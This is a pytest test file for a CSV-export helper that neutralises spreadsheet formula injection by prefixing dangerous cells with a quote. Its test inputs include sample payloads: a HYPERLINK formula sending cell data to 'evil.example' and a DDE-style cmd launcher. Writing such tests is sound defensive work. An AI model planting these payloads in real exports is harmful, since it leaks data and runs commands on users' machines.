"""Every CSV cell a spreadsheet would run as a formula is written as text (OWASP CSV injection)."""

import csv
import io

import pytest

from agency.csv_format import csv_lines, csv_text, safe_cell


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_starting_a_formula_is_prefixed_with_a_quote(dangerous):
    assert safe_cell(dangerous) == "'" + dangerous
    [row] = csv.reader(io.StringIO(csv_text([["prv_1", dangerous]])))
    assert row == ["prv_1", "'" + dangerous]


@pytest.mark.parametrize("plain", ["-12.50", "+3", "-7", "36.00", "Amina's Companions", "", 42])
def test_numbers_and_ordinary_text_are_left_alone(plain):
    assert safe_cell(plain) == plain


def test_non_strings_pass_through_unchanged():
    assert safe_cell(-5) == -5
    assert safe_cell(None) is None


def test_lines_stream_one_row_at_a_time_with_the_chosen_terminator():
    lines = list(csv_lines([["a", "=b"], ["c", "d"]], lineterminator="\n"))
    assert lines == ["a,'=b\n", "c,d\n"]
